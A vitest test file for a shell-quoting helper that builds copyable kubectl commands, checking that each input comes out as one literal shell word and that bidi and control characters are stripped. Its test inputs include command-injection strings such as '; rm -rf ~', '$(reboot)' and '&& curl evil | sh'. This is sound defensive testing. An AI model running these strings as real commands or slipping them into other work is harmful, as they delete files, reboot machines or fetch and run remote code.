import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { command, quoteArgument } from '#shared/quote.ts';

describe('a command to copy', () => {
  test('leaves harmless names as they are', () => {
    const [namespace, name] = ['kube-system', 'cat-of-the-day'];
    expect(command`kubectl -n ${namespace} describe cronjob ${name}`).toBe(
      'kubectl -n kube-system describe cronjob cat-of-the-day',
    );
  });

  test.each([
    'a b',
    "it's",
    '$(reboot)',
    '`reboot`',
    '; rm -rf ~',
    '&& curl evil | sh',
    'a"b',
    'back\\slash',
    '*',
    '~',
    '#hash',
    '!history',
    '',
    'a=b c',
    '<b>html</b>',
    'ünïcode',
    '{a,b}',
    'x'.repeat(253),
  ])('gives the shell %j as one word that means itself', (name) => {
    const printed = execFileSync('sh', ['-c', `printf '%s|' ${quoteArgument(name)} end`], { encoding: 'utf8' });
    expect(printed).toBe(`${name}|end|`);
  });

  test('does not let a name be taken for an option', () => {
    expect(quoteArgument('-n')).toBe("'-n'");
  });

  test('removes what could make it read other than it runs', () => {
    expect(quoteArgument('safe\u202Etxt.exe\u2066')).toBe('safetxt.exe');
    expect(quoteArgument('two\nlines\r\t\u0000\u001b[31m')).toBe("'twolines[31m'");
    expect(quoteArgument('a\u2028b\u2029c\u200bd')).toBe('abcd');
  });
});
